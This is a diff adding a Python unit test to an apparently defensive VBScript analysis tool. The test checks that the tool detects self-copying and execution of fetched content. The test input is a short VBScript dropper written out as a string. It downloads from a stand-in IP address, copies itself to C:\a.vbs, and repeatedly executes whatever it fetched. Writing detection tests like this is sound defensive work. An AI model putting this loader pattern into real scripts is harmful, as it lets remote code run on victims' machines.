@@ -84,6 +84,21 @@ def test_a_loader():
     assert error is None
 
 
+def test_it_copies_itself_and_evaluates_what_it_fetched():
+    source = (
+        'Set h = CreateObject("MSXML2.XMLHTTP")\nh.Open "GET", "http://192.0.2.1/a", False\nh.Send\n'
+        'Set f = CreateObject("Scripting.FileSystemObject")\nf.CopyFile WScript.ScriptFullName, "C:\\a.vbs"\n'
+        "Do\nExecute h.responseText\nLoop\n"
+    )
+    features, _, _ = read(source)
+    assert "copies itself" in features["script.calls"]
+    assert [call for call in features["script.calls"] if call.startswith("evaluates ")] == [
+        "evaluates {h.responseText}"
+    ]
+    features, _, _ = read('Set f = CreateObject("Scripting.FileSystemObject")\nf.CopyFile "C:\\a", "C:\\b"')
+    assert features["script.calls"] == ["creates Scripting.FileSystemObject", "writes C:\\b"]
+
+
 def test_encoded_script():
     features, _, _ = read(ENCODED, "a.vbe")
     assert features["script.unfolded"] == ['MsgBox "Hello"']
